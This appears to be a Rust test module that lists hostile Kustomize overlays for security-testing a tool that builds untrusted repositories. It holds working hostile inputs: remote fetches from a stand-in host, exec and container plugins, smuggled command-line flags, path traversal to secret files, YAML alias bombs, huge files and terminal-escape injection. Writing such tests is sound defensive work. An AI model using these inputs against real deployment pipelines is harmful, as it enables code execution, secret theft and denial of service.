//! Attacks through overlays.

use std::fmt::Write as _;

use super::{Ground, Harm, HostileSource, attack, proven};
use crate::support::MARKER;

const CONFIG_MAP: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {a: b}\n";

#[expect(clippy::too_many_lines, reason = "one entry per attack")]
pub(super) fn all() -> Vec<HostileSource> {
    use Harm::{Connects, Exhausts, Reads, Shows, Starts};
    vec![
        attack("overlay: a base in a Git repository", Connects, |ground| {
            ground.overlay("resources: [\"https://127.0.0.1:9/example/base//deploy?ref=v1&timeout=90s\"]\n");
        }),
        attack("overlay: a base by SSH", Connects, |ground| {
            ground.overlay("resources: [\"git@127.0.0.1:example/base.git\"]\n");
        }),
        attack("overlay: a base by the name of a forge", Connects, |ground| {
            ground.overlay("resources: [github.com/example/base?ref=v1]\n");
        }),
        attack("overlay: a resource from a host", Connects, |ground| {
            ground.overlay("resources: [\"https://127.0.0.1:9/all.yaml\"]\n");
        }),
        attack("overlay: a component from a host", Connects, |ground| {
            ground.overlay("components: [\"https://127.0.0.1:9/example/component?ref=v1\"]\n");
        }),
        attack("overlay: a remote base in a base", Connects, |ground| {
            ground.overlay("resources: [../../base]\n");
            ground
                .in_app("base/kustomization.yaml", "bases: [\"https://127.0.0.1:9/example/base?ref=v1\"]\n");
        }),
        attack("overlay: files from a host", Connects, |ground| {
            ground.overlay(
                "resources: [web.yaml]\nconfigMapGenerator: [{name: a, files: [\"a=https://127.0.0.1:9/a\"]}]\n\
                 patches: [{path: \"https://127.0.0.1:9/patch.yaml\"}]\n",
            );
            ground.in_app("overlays/dev/web.yaml", CONFIG_MAP);
        }),
        attack("overlay: a chart from a host", Connects, |ground| {
            ground.overlay("helmCharts: [{name: web, repo: \"https://127.0.0.1:9\", version: 1.0.0}]\n");
        }),
        attack("overlay: a base that is a local Git repository outside", Reads, |ground| {
            let outside = ground.path("outside");
            ground.overlay(&format!("resources: [\"file://{}?ref=main\"]\n", outside.display()));
        }),
        proven(
            "overlay: a program as generator",
            Starts,
            |ground| {
                ground.overlay("generators: [run.yaml]\n");
                function(ground, "exec: {path: ./run.sh}");
                ground.program("repository/app/overlays/dev/run.sh");
            },
            "kustomize build --enable-alpha-plugins --enable-exec overlays/dev",
        ),
        attack("overlay: a program as transformer", Starts, |ground| {
            ground.overlay("resources: [web.yaml]\ntransformers: [run.yaml]\n");
            ground.in_app("overlays/dev/web.yaml", CONFIG_MAP);
            function(ground, "exec: {path: ./run.sh}");
            ground.program("repository/app/overlays/dev/run.sh");
        }),
        attack("overlay: a program as validator", Starts, |ground| {
            ground.overlay("resources: [web.yaml]\nvalidators: [run.yaml]\n");
            ground.in_app("overlays/dev/web.yaml", CONFIG_MAP);
            function(ground, "exec: {path: ./run.sh}");
            ground.program("repository/app/overlays/dev/run.sh");
        }),
        attack("overlay: a container as generator", Starts, |ground| {
            ground.overlay("generators: [run.yaml]\n");
            function(ground, "container: {image: \"127.0.0.1:9/evil:1\", network: true}");
        }),
        proven(
            "overlay: a plugin in HOME",
            Starts,
            |ground| {
                ground.overlay("generators: [run.yaml]\n");
                ground.in_app(
                    "overlays/dev/run.yaml",
                    "apiVersion: example.com/v1\nkind: Evil\nmetadata: {name: evil}\n",
                );
                ground.program("home/.config/kustomize/plugin/example.com/v1/evil/Evil");
            },
            "kustomize build --enable-alpha-plugins overlays/dev",
        ),
        attack("overlay: a flag as path", Starts, |ground| {
            ground.overlay("resources: [web.yaml]\n");
            ground.app_file("- kustomize: {path: --enable-exec}\n");
        }),
        attack("overlay: a chart with a flag as release name", Starts, |ground| {
            chart_of_overlay(ground, "releaseName: --post-renderer=./run.sh");
            ground.program("repository/app/overlays/dev/run.sh");
        }),
        attack("overlay: the overlay is outside", Reads, |ground| {
            ground.write("outside/kustomization.yaml", "resources: [secret.yaml]\n");
            ground.app_file("- kustomize: {path: ../../outside}\n");
        }),
        attack("overlay: the overlay is a link", Reads, |ground| {
            ground.write("outside/kustomization.yaml", "resources: [secret.yaml]\n");
            ground.app_file("- kustomize: {path: overlay}\n");
            ground.link("repository/app/overlay", "../../outside");
        }),
        proven(
            "overlay: a base outside",
            Reads,
            |ground| {
                ground.write("outside/kustomization.yaml", "resources: [secret.yaml]\n");
                ground.overlay("resources: [../../../../outside]\n");
            },
            "kustomize build overlays/dev",
        ),
        attack("overlay: a resource outside", Reads, |ground| {
            ground.overlay("resources: [../../../../outside/secret.yaml]\n");
        }),
        attack("overlay: a generator of a file outside", Reads, |ground| {
            ground.overlay("configMapGenerator: [{name: a, files: [../../../../outside/secret.txt]}]\n");
        }),
        attack("overlay: a link to a file outside", Reads, |ground| {
            ground.overlay("configMapGenerator: [{name: a, files: [text]}]\n");
            ground.link("repository/app/overlays/dev/text", "../../../../outside/secret.txt");
        }),
        attack("overlay: a base that is a link outside", Reads, |ground| {
            ground.write("outside/kustomization.yaml", "resources: [secret.yaml]\n");
            ground.overlay("resources: [../base]\n");
            ground.link("repository/app/overlays/base", "../../../outside");
        }),
        proven(
            "overlay: a chart outside",
            Reads,
            |ground| {
                ground.write("outside/charts/web/Chart.yaml", "apiVersion: v2\nname: web\nversion: 1.0.0\n");
                let template = CONFIG_MAP.replace("a: b", &format!("a: {MARKER}-chart"));
                ground.write("outside/charts/web/templates/a.yaml", &template);
                ground.overlay(
                    "helmGlobals: {chartHome: ../../../../outside/charts}\nhelmCharts: [{name: web, valuesFile: values.yaml}]\n",
                );
                ground.in_app("overlays/dev/values.yaml", "{}\n");
            },
            "kustomize build --enable-helm overlays/dev",
        ),
        attack("overlay: a chart with a values file outside", Reads, |ground| {
            chart_of_overlay(ground, "releaseName: web, valuesFile: ../../../../outside/secret.txt");
        }),
        attack("overlay: a chart with more values files outside", Reads, |ground| {
            chart_of_overlay(
                ground,
                "releaseName: web, additionalValuesFiles: [../../../../outside/secret.txt]",
            );
        }),
        attack("overlay: it contains itself", Exhausts, |ground| {
            ground.overlay("resources: [../other]\n");
            ground.in_app("overlays/other/kustomization.yaml", "resources: [../dev]\n");
        }),
        attack("overlay: copies of copies", Exhausts, |ground| {
            ground.overlay("resources: [../../level-25]\n");
            ground.in_app("level-0/kustomization.yaml", "resources: [web.yaml]\n");
            ground.in_app("level-0/web.yaml", CONFIG_MAP);
            for level in 1..26 {
                let before = level - 1;
                for side in ["a", "b"] {
                    ground.in_app(
                        &format!("level-{level}/{side}/kustomization.yaml"),
                        &format!("namePrefix: {side}-\nresources: [../../level-{before}]\n"),
                    );
                }
                ground.in_app(&format!("level-{level}/kustomization.yaml"), "resources: [a, b]\n");
            }
        }),
        attack("overlay: a resource that expands", Exhausts, |ground| {
            ground.overlay("resources: [web.yaml]\n");
            let mut text = format!("{CONFIG_MAP}a0: &a0 [x, x, x, x]\n");
            for level in 1..30 {
                let before = level - 1;
                writeln!(text, "a{level}: &a{level} [*a{before}, *a{before}, *a{before}, *a{before}]")
                    .unwrap();
            }
            ground.in_app("overlays/dev/web.yaml", &text);
        }),
        attack("overlay: a resource of 1 GiB", Exhausts, |ground| {
            ground.overlay("resources: [web.yaml]\n");
            ground.sparse("repository/app/overlays/dev/web.yaml", 1 << 30);
        }),
        attack("overlay: a generator of 1 GiB", Exhausts, |ground| {
            ground.overlay("configMapGenerator: [{name: a, files: [large]}]\n");
            ground.sparse("repository/app/overlays/dev/large", 1 << 30);
        }),
        attack("overlay: a fifo", Exhausts, |ground| {
            ground.overlay("resources: [web.yaml]\n");
            let fifo = ground.app().join("overlays/dev/web.yaml");
            assert!(std::process::Command::new("mkfifo").arg(fifo).status().unwrap().success());
        }),
        attack("overlay: an endless chart", Exhausts, |ground| {
            chart_of_overlay(ground, "releaseName: web");
            ground.in_app(
                "overlays/dev/charts/web/templates/a.yaml",
                "{{ range until 1000000000 }}{{ end }}\n",
            );
        }),
        attack("overlay: control characters in a message", Shows, |ground| {
            ground.overlay("resources: [\"\\e[2J\\e]0;title\\a\\u202e.yaml\"]\n");
        }),
        attack("overlay: a line break in a name", Shows, |ground| {
            ground.overlay("resources: [\"a\\nerror: forged.yaml\"]\n");
        }),
    ]
}

/// Writes the configuration of a function.
fn function(ground: &Ground, runtime: &str) {
    ground.in_app(
        "overlays/dev/run.yaml",
        &format!(
            "apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    \
             config.kubernetes.io/function: |\n      {runtime}\n"
        ),
    );
}

/// Writes an overlay with a chart.
fn chart_of_overlay(ground: &Ground, settings: &str) {
    ground.overlay(&format!("helmCharts: [{{name: web, {settings}}}]\n"));
    ground.in_app("overlays/dev/charts/web/Chart.yaml", "apiVersion: v2\nname: web\nversion: 1.0.0\n");
    ground.in_app("overlays/dev/charts/web/values.yaml", "{}\n");
    ground.in_app(
        "overlays/dev/charts/web/templates/a.yaml",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {a: {{ .Values.password | quote }}}\n",
    );
}
